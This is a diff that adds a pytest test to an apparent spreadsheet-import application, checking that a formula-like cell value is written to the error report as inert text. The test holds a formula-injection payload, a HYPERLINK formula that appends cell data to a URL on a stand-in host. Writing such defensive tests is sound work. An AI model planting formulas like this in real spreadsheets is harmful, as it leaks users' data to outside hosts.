@@ -232,3 +232,28 @@ def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path):
     with pytest.raises(DepartmentFileError) as refused:
         read_department_file(bomb)
     assert "炸弹.xlsx" in str(refused.value) or "解压" in str(refused.value)
+
+
+def test_the_error_report_writes_a_hostile_value_as_text_not_a_live_formula(engine, tmp_path):
+    from openpyxl import load_workbook
+
+    from desktop.services.comparison.importer import write_error_report
+
+    build_village(engine)
+    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
+    wb = Workbook()
+    wb.active.append(["姓名", "证件号码", "企业名称", "出生日期"])
+    wb.active.append(["无名", "", "某公司", "1970-01-01"])
+    wb.active["D2"].value, wb.active["D2"].data_type = (
+        hostile,
+        "s",
+    )  # text that looks like a formula
+    path = tmp_path / "工商.xlsx"
+    wb.save(path)
+    result = import_department_list(
+        Database(engine), path, "工商", received_on=RECEIVED, who="张文书"
+    )
+    assert not result.ok and result.errors[0].value == hostile
+    report = load_workbook(write_error_report(result, tmp_path / "report.xlsx"))["错误汇总"]
+    [row] = [r for r in report.iter_rows(min_row=2) if r[2].value == hostile]
+    assert row[2].data_type == "s" and row[0].value == 2 and row[1].value.startswith("D")
